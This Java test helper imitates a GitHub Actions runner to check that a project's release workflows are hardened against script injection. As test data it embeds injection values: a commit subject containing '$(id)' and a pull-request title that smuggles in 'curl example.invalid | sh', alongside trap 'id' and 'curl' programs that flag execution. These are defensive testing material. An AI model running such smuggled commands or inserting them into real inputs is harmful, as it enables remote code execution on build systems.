package dev.llmproxy.release.workflows;

import dev.llmproxy.release.workflows.JobRunner.JobResult;
import dev.llmproxy.release.workflows.JobRunner.LocalAction;
import dev.llmproxy.release.workflows.JobRunner.Machine;
import dev.llmproxy.release.image.ImageOutputs;
import dev.llmproxy.release.pom.ReactorVersions;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.stream.Stream;

/**
 * A GitHub-hosted runner imitated in a temporary directory, for running this project's workflow jobs for real:
 * a sample project and a "release tooling" repository (each with a stub {@code ./mvnw} that records its calls;
 * or, with {@link #ofThisRepository}, a copy of this repository with its real wrapper) behind bare {@code origin}
 * repositories, the {@code GITHUB_*} variables and event file a runner provides, local stand-ins for the
 * {@code uses:} actions, and trap programs {@code id} and {@code curl} first on the PATH that leave a marker file
 * if anything ever runs them.
 */
final class RunnerSandbox {
    static final String REPOSITORY = "Example-Org/app";
    static final String TOOLING_REPOSITORY = "Example-Org/release-tools";
    static final String TOKEN = "ghs_TestTokenThatMustNeverBePrinted0123";
    static final String DIGEST = "0123456789abcdef".repeat(4);
    static final String COMMIT_SUBJECT = "feat: x`$(id)`";
    static final String PR_TITLE = "\"; curl example.invalid | sh; #";

    /**
     * One recorded call of the stub {@code ./mvnw}.
     *
     * @param token   whether GITHUB_TOKEN was set
     * @param secrets which of IMAGE_REGISTRY_PASSWORD and MAVEN_REPOSITORY_PASSWORD were set (names only)
     */
    record MavenCall(Path cwd, List<String> args, String mavenArgs, boolean token, List<String> secrets) {
    }

    /**
     * The registry login an image attestation would push with: from {@code $DOCKER_CONFIG/config.json} at the time
     * of the attest step, for the registry of the subject.
     */
    record RegistryLogin(String registry, String username, String password) {
        @Override
        public String toString() {
            return "RegistryLogin[" + registry + ", " + username + ", (password hidden)]";
        }
    }

    /** One {@code actions/checkout} call: the with: values as given. */
    record Checkout(Map<String, String> with) {
    }

    final Path root;
    final Path projectOrigin;
    final Path toolingOrigin;
    final String toolingRepository;
    final String toolingSha;
    final List<Checkout> checkouts = new ArrayList<>();
    final List<List<String>> attestedSubjects = new ArrayList<>();
    /** The registry logins the image attestations found, one per image attestation. */
    final List<RegistryLogin> attestationLogins = new ArrayList<>();
    /** The settings.xml files the setup-java stand-in wrote, in order. */
    final List<Path> setupJavaSettings = new ArrayList<>();
    /** Secrets the caller passes to the reusable workflow ({@code secrets:} of the calling job). */
    final Map<String, String> secrets = new LinkedHashMap<>();
    /** Variables added to (or replacing) every job's environment, e.g. GITHUB_API_URL of a stand-in. */
    final Map<String, String> environment = new LinkedHashMap<>();
    private final Path traps;
    private final Map<String, Object> event;
    private int jobCount;
    /** The tag the stub {@code llm-proxy release draft} writes into plan.json. */
    String cliPlanTag = "v1.3.0";

    /** The repositories behind the bare origins: the released project and the release tooling. */
    private record Origins(Path project, Path tooling, String toolingRepository, String toolingSha) {
    }

    /**
     * Builds stub repositories in {@code root}: the sample project gets tags {@code tags} on its only commit; the
     * tooling repository is another one ({@link #TOOLING_REPOSITORY}).
     */
    RunnerSandbox(Path root, List<String> tags) {
        this(root, stubOrigins(root, tags));
    }

    private RunnerSandbox(Path root, Origins origins) {
        this.root = root;
        projectOrigin = origins.project();
        toolingOrigin = origins.tooling();
        toolingRepository = origins.toolingRepository();
        toolingSha = origins.toolingSha();
        try {
            traps = Files.createDirectories(root.resolve("traps"));
            for (String program : List.of("id", "curl")) {
                executable(traps.resolve(program), "#!/bin/sh\ntouch \"" + root.resolve(program + ".called") + "\"\n");
            }
            event = Map.of(
                    "head_commit", Map.of("message", COMMIT_SUBJECT),
                    "pull_request", Map.of("title", PR_TITLE),
                    "repository", Map.of("full_name", REPOSITORY, "default_branch", "main"));
            Project.JSON.writeValue(root.resolve("event.json").toFile(), event);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A sandbox whose project is a copy of this repository's working tree (tracked and new files, no build output)
     * that releases itself, as {@code release.yml} does: {@link #REPOSITORY} is also the workflow's repository. The
     * history: the copy tagged {@code previousTag}, a {@code feat} commit, then the release commit with every pom
     * at {@code version} (written by {@link ReactorVersions}) tagged {@code v<version>}.
     */
    static RunnerSandbox ofThisRepository(Path root, String previousTag, String version) {
        Project.requireProgram("git", "install git");
        Path project = directory(root, "project");
        try {
            for (String file : git(Project.root(), "ls-files", "-z", "--cached", "--others", "--exclude-standard").split("\0")) {
                Path source = Project.root().resolve(file);
                if (!file.isEmpty() && Files.isRegularFile(source)) {
                    Files.createDirectories(project.resolve(file).getParent());
                    Files.copy(source, project.resolve(file), StandardCopyOption.COPY_ATTRIBUTES);
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return releasedProject(root, project, previousTag, version);
    }

    /**
     * A sandbox whose project is another repository that calls the reusable workflow: {@code files} (path to text)
     * plus this repository's Maven wrapper ({@code mvnw}, {@code .mvn/wrapper/}), with the history of
     * {@link #ofThisRepository}. {@link #jobContext()} names the project itself as the workflow's repository: pass
     * the {@code plugin-version} input, the plugin is not built from it.
     */
    static RunnerSandbox ofCallerProject(Path root, Map<String, String> files, String previousTag, String version) {
        Project.requireProgram("git", "install git");
        Path project = directory(root, "project");
        try {
            for (Map.Entry<String, String> file : files.entrySet()) {
                Files.createDirectories(project.resolve(file.getKey()).getParent());
                Files.writeString(project.resolve(file.getKey()), file.getValue());
            }
            for (String wrapper : List.of("mvnw", ".mvn/wrapper/maven-wrapper.properties")) {
                Files.createDirectories(project.resolve(wrapper).getParent());
                Files.copy(Project.root().resolve(wrapper), project.resolve(wrapper), StandardCopyOption.COPY_ATTRIBUTES);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return releasedProject(root, project, previousTag, version);
    }

    /**
     * Commits {@code project} tagged {@code previousTag}, then a {@code feat} commit and the release commit with every
     * pom at {@code version} tagged {@code v<version>}, and serves it from a bare origin.
     */
    private static RunnerSandbox releasedProject(Path root, Path project, String previousTag, String version) {
        git(project, "init", "--quiet", "--initial-branch=main");
        commitAll(project, "chore: import the project");
        git(project, "tag", "-a", previousTag, "-m", "Release " + previousTag);
        git(project, "commit", "--quiet", "--allow-empty", "-m", "feat(cli): release from the reusable workflow");
        ReactorVersions.load(project).apply(version);
        commitAll(project, "chore(release): " + version);
        git(project, "tag", "-a", "v" + version, "-m", "Release v" + version);
        Path origin = bare(root, project);
        return new RunnerSandbox(root, new Origins(origin, origin, REPOSITORY, git(project, "rev-parse", "HEAD").strip()));
    }

    private static Origins stubOrigins(Path root, List<String> tags) {
        Project.requireProgram("git", "install git");
        try {
            Path project = sampleRepository(root, "project", Map.of(
                    "pom.xml", "<project/>\n",
                    "llm-proxy-cli/pom.xml", "<project/>\n",
                    "dist/EOF", "an asset whose name is a heredoc delimiter\n",
                    "dist/name=value", "an asset whose name looks like an output line\n"));
            tags.forEach(tag -> git(project, "tag", "-a", tag, "-m", "Release " + tag));
            Path tooling = sampleRepository(root, "tooling", Map.of("pom.xml", "<project/>\n", "release-maven-plugin/pom.xml", "<project/>\n"));
            return new Origins(bare(root, project), bare(root, tooling), TOOLING_REPOSITORY, git(tooling, "rev-parse", "HEAD").strip());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * The {@code uses:} stand-ins: checkout clones from the bare origins, setup-java writes the settings.xml the real
     * action writes (Java itself is this machine's), attest records its subjects and the registry login it finds.
     */
    Map<String, LocalAction> actions() {
        return Map.of(
                "actions/checkout", (with, workspace, environment) -> checkout(with, workspace),
                "actions/setup-java", this::setupJava,
                "actions/attest-build-provenance", this::attest);
    }

    /**
     * A fresh runner for one job (own workspace and RUNNER_TEMP, as each job gets its own machine).
     *
     * @param ref    GITHUB_REF, e.g. {@code refs/tags/v1.2.3}
     * @param inputs the workflow_call inputs
     * @param job    the job context ({@code workflow_repository}, {@code workflow_sha})
     */
    Machine machine(String ref, Map<String, Object> inputs, Map<String, Object> job) {
        jobCount++;
        Path workspace = directory("job" + jobCount + "/workspace");
        Path temp = directory("job" + jobCount + "/temp");
        String refName = ref.replaceFirst("^refs/(tags|heads)/", "");
        Map<String, String> env = new LinkedHashMap<>();
        env.put("PATH", traps + ":" + System.getenv("PATH"));
        env.put("HOME", directory("home").toString());
        env.put("LANG", "C.UTF-8");
        System.getenv().entrySet().stream().filter(e -> e.getKey().equals("JAVA_HOME")).forEach(e -> env.put(e.getKey(), e.getValue()));
        env.put("CI", "true");
        env.put("GITHUB_ACTIONS", "true");
        env.put("GITHUB_REF", ref);
        env.put("GITHUB_REF_NAME", refName);
        env.put("GITHUB_REF_TYPE", ref.startsWith("refs/tags/") ? "tag" : "branch");
        env.put("GITHUB_REPOSITORY", REPOSITORY);
        env.put("GITHUB_REPOSITORY_OWNER", "Example-Org");
        env.put("GITHUB_SERVER_URL", "https://github.com");
        env.put("GITHUB_API_URL", "http://127.0.0.1:9/api/v3");
        env.put("GITHUB_RUN_ID", "4242");
        env.put("GITHUB_EVENT_NAME", "push");
        env.put("GITHUB_EVENT_PATH", root.resolve("event.json").toString());
        env.put("MVNW_STUB_LOG", root.resolve("mvnw.log").toString());
        env.put("MVNW_STUB_NOTES", Project.resource("runner/notes.md").toString());
        env.put("MVNW_STUB_CLI", Project.resource("runner/stub-llm-proxy").toString());
        env.put("MVNW_STUB_DIGEST", DIGEST);
        env.put("LLM_PROXY_STUB_LOG", root.resolve("llm-proxy.log").toString());
        env.put("LLM_PROXY_STUB_TAG", cliPlanTag);
        env.put("MVNW_STUB_PLUGIN_JAR", pluginJar().toString());
        env.put("MVNW_STUB_CLASSPATH", System.getProperty("java.class.path"));
        env.put("GITHUB_ACTOR", "release-bot");
        env.putAll(environment);
        Map<String, Object> github = new LinkedHashMap<>();
        github.put("token", TOKEN);
        github.put("actor", "release-bot");
        github.put("ref", ref);
        github.put("ref_name", refName);
        github.put("repository", REPOSITORY);
        github.put("repository_owner", "Example-Org");
        github.put("server_url", "https://github.com");
        github.put("event", event);
        return new Machine(workspace, temp, env, github, inputs, job, Map.copyOf(secrets));
    }

    /** The job context GitHub gives a job of a reusable workflow called from another repository. */
    Map<String, Object> jobContext() {
        return Map.of("workflow_repository", toolingRepository, "workflow_sha", toolingSha, "status", "success");
    }

    /**
     * Runs the reusable release workflow's jobs in dependency order: verify, image, release.
     *
     * @return the results by job id
     */
    Map<String, JobResult> runReusable(String ref, Map<String, Object> inputs, Map<String, Object> job) {
        JobRunner runner = new JobRunner(Project.workflow("release-reusable.yml"), actions());
        Map<String, JobResult> results = new LinkedHashMap<>();
        results.put("verify", runner.run("verify", machine(ref, inputs, job), Map.of()));
        results.put("image", runner.run("image", machine(ref, inputs, job), Map.of("verify", results.get("verify"))));
        results.put("release", runner.run("release", machine(ref, inputs, job), Map.copyOf(results)));
        return results;
    }

    /** Runs one job of workflow {@code workflowName} on a fresh runner. */
    JobResult runJob(String workflowName, String jobId, String ref, Map<String, Object> inputs, Map<String, JobResult> needs) {
        return runJob(workflowName, jobId, ref, inputs, Map.of(), needs);
    }

    /** Runs one job of workflow {@code workflowName} on a fresh runner with the given {@code job} context. */
    JobResult runJob(String workflowName, String jobId, String ref, Map<String, Object> inputs, Map<String, Object> job,
                     Map<String, JobResult> needs) {
        return new JobRunner(Project.workflow(workflowName), actions()).run(jobId, machine(ref, inputs, job), needs);
    }

    /** The stub llm-proxy command lines so far. */
    List<String> cliCalls() {
        Path log = root.resolve("llm-proxy.log");
        return Files.exists(log) ? read(log).lines().toList() : List.of();
    }

    /** The stub ./mvnw calls so far, in order. */
    List<MavenCall> mavenCalls() {
        Path log = root.resolve("mvnw.log");
        List<MavenCall> calls = new ArrayList<>();
        if (!Files.exists(log)) {
            return calls;
        }
        Path cwd = null;
        List<String> args = new ArrayList<>();
        String mavenArgs = "";
        List<String> secretsSet = List.of();
        for (String line : read(log).lines().toList()) {
            if (line.equals("---")) {
                args = new ArrayList<>();
            } else if (line.startsWith("cwd ")) {
                cwd = Path.of(line.substring(4));
            } else if (line.startsWith("arg ")) {
                args.add(line.substring(4));
            } else if (line.startsWith("MAVEN_ARGS ")) {
                mavenArgs = line.substring(11);
            } else if (line.startsWith("SECRETS")) {
                secretsSet = Stream.of(line.substring(7).strip().split("\\s+")).filter(name -> !name.isEmpty()).toList();
            } else if (line.startsWith("GITHUB_TOKEN ")) {
                calls.add(new MavenCall(cwd, List.copyOf(args), mavenArgs, line.equals("GITHUB_TOKEN set"), secretsSet));
            }
        }
        return calls;
    }

    /** Trap programs that were run (each would mean injected text was executed). */
    List<String> trapsSprung() {
        return List.of("id", "curl").stream().filter(program -> Files.exists(root.resolve(program + ".called"))).toList();
    }

    private Map<String, String> checkout(Map<String, String> with, Path workspace) {
        checkouts.add(new Checkout(with));
        String repository = with.getOrDefault("repository", "");
        Path origin = repository.isEmpty() || repository.equals(REPOSITORY) ? projectOrigin
                : repository.equals(toolingRepository) ? toolingOrigin : null;
        if (origin == null) {
            throw new IllegalArgumentException("repository not found: " + repository);
        }
        Path target = workspace.resolve(with.getOrDefault("path", ""));
        List<String> clone = new ArrayList<>(List.of("git", "clone", "--quiet", "--no-local"));
        if (!"0".equals(with.getOrDefault("fetch-depth", "1"))) {
            clone.addAll(List.of("--depth", with.getOrDefault("fetch-depth", "1")));
        }
        clone.addAll(List.of(origin.toUri().toString(), target.toString()));
        Processes.check(clone, root);
        String ref = with.getOrDefault("ref", "");
        if (!ref.isEmpty()) {
            Processes.check(List.of("git", "-c", "advice.detachedHead=false", "checkout", "--quiet", ref), target);
        }
        return Map.of("ref", ref, "commit", git(target, "rev-parse", "HEAD").strip());
    }

    /**
     * What actions/setup-java's authentication part does (its {@code src/auth.ts}): always writes {@code settings.xml}
     * into {@code settings-path} (default {@code ~/.m2}), overwriting unless {@code overwrite-settings: false}, with
     * one server: id {@code server-id} (default {@code github}), username and password as {@code ${env.NAME}} of the
     * variables named by {@code server-username} / {@code server-password} (default GITHUB_ACTOR / GITHUB_TOKEN).
     */
    private Map<String, String> setupJava(Map<String, String> with, Path workspace, Map<String, String> environment) throws IOException {
        String directory = with.getOrDefault("settings-path", "");
        Path settings = (directory.isEmpty() ? Path.of(environment.get("HOME"), ".m2") : Path.of(directory)).resolve("settings.xml");
        if (Files.exists(settings) && "false".equals(with.get("overwrite-settings"))) {
            return Map.of();
        }
        Files.createDirectories(settings.getParent());
        Files.writeString(settings, """
                <settings xmlns="http://maven.apache.org/SETTINGS/1.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" \
                xsi:schemaLocation="http://maven.apache.org/SETTINGS/1.0.0 https://maven.apache.org/xsd/settings-1.0.0.xsd">
                  <interactiveMode>false</interactiveMode>
                  <servers>
                    <server>
                      <id>%s</id>
                      <username>${env.%s}</username>
                      <password>${env.%s}</password>
                    </server>
                  </servers>
                </settings>
                """.formatted(xml(orDefault(with, "server-id", "github")), xml(orDefault(with, "server-username", "GITHUB_ACTOR")),
                xml(orDefault(with, "server-password", "GITHUB_TOKEN"))));
        setupJavaSettings.add(settings);
        return Map.of();
    }

    private static String orDefault(Map<String, String> with, String key, String fallback) {
        String value = with.getOrDefault(key, "");
        return value.isEmpty() ? fallback : value;
    }

    private static String xml(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    /**
     * actions/attest-build-provenance: either files ({@code subject-path}, each must exist) or an image
     * ({@code subject-name} and {@code subject-digest}); with {@code push-to-registry: true} it needs the registry's
     * login in {@code $DOCKER_CONFIG/config.json} (default {@code ~/.docker}), as the real action's OCI client does.
     */
    private Map<String, String> attest(Map<String, String> with, Path workspace, Map<String, String> environment) throws IOException {
        String digest = with.getOrDefault("subject-digest", "");
        if (!digest.isEmpty()) {
            String image = with.getOrDefault("subject-name", "");
            if (!digest.matches("sha256:[0-9a-f]{64}") || image.isEmpty() || image.contains("@")) {
                throw new IllegalArgumentException("subject-name must name the image without tag and subject-digest be sha256:<hex>");
            }
            if ("true".equals(with.get("push-to-registry"))) {
                attestationLogins.add(dockerLogin(image.substring(0, image.indexOf('/')), environment));
            }
            attestedSubjects.add(List.of(image + "@" + digest));
            return Map.of("bundle-path", workspace.resolve("attestation.jsonl").toString());
        }
        List<String> subjects = with.getOrDefault("subject-path", "").lines().toList();
        for (String subject : subjects) {
            if (!Files.isRegularFile(workspace.resolve(subject))) {
                throw new IllegalArgumentException("Could not find subject at path " + subject);
            }
        }
        attestedSubjects.add(subjects);
        return Map.of("bundle-path", workspace.resolve("attestation.jsonl").toString());
    }

    private static RegistryLogin dockerLogin(String registry, Map<String, String> environment) throws IOException {
        String directory = environment.getOrDefault("DOCKER_CONFIG", environment.get("HOME") + "/.docker");
        Path config = Path.of(directory, "config.json");
        if (!Files.isRegularFile(config)) {
            throw new IllegalArgumentException("No Docker credentials for " + registry + ": " + config + " does not exist");
        }
        String auth = Project.JSON.readTree(config.toFile()).path("auths").path(registry).path("auth").asText();
        String login = new String(Base64.getDecoder().decode(auth), StandardCharsets.UTF_8);
        if (!login.contains(":")) {
            throw new IllegalArgumentException("No Docker credentials for " + registry + " in " + config);
        }
        return new RegistryLogin(registry, login.substring(0, login.indexOf(':')), login.substring(login.indexOf(':') + 1));
    }

    private static Path sampleRepository(Path root, String name, Map<String, String> files) throws IOException {
        Path repository = directory(root, name);
        for (Map.Entry<String, String> file : files.entrySet()) {
            Files.createDirectories(repository.resolve(file.getKey()).getParent());
            Files.writeString(repository.resolve(file.getKey()), file.getValue());
        }
        Files.writeString(repository.resolve(".gitignore"), "target/\n");
        Path mvnw = repository.resolve("mvnw");
        Files.copy(Project.resource("runner/stub-mvnw"), mvnw, StandardCopyOption.REPLACE_EXISTING);
        Files.setPosixFilePermissions(mvnw, PosixFilePermissions.fromString("rwxr-xr-x"));
        git(repository, "init", "--quiet", "--initial-branch=main");
        commitAll(repository, COMMIT_SUBJECT);
        return repository;
    }

    private static void commitAll(Path repository, String message) {
        git(repository, "add", "--all");
        git(repository, "commit", "--quiet", "-m", message);
    }

    private static Path bare(Path root, Path repository) {
        Path origin = root.resolve(repository.getFileName() + "-origin.git");
        Processes.check(List.of("git", "clone", "--quiet", "--bare", repository.toString(), origin.toString()), root);
        return origin;
    }

    private static String git(Path repository, String... args) {
        List<String> command = new ArrayList<>(List.of("git", "-c", "user.name=Test", "-c", "user.email=test@example.invalid"));
        command.addAll(List.of(args));
        return Processes.check(command, repository).stdout();
    }

    private Path directory(String relative) {
        return directory(root, relative);
    }

    private static Path directory(Path root, String relative) {
        try {
            return Files.createDirectories(root.resolve(relative));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * The release plugin's classes as a jar (the stub {@code ./mvnw} "builds" it): the jar on the test class path,
     * or one made from its classes directory.
     */
    Path pluginJar() {
        try {
            Path location = Path.of(ImageOutputs.class.getProtectionDomain().getCodeSource().getLocation().toURI());
            if (Files.isRegularFile(location)) {
                return location;
            }
            Path jar = root.resolve("release-maven-plugin.jar");
            if (!Files.exists(jar)) {
                try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(jar)); Stream<Path> files = Files.walk(location)) {
                    for (Path file : files.filter(Files::isRegularFile).toList()) {
                        out.putNextEntry(new JarEntry(location.relativize(file).toString().replace('\\', '/')));
                        Files.copy(file, out);
                        out.closeEntry();
                    }
                }
            }
            return jar;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    private static void executable(Path file, String content) throws IOException {
        Files.writeString(file, content);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    static String read(Path file) {
        try {
            return Files.readString(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
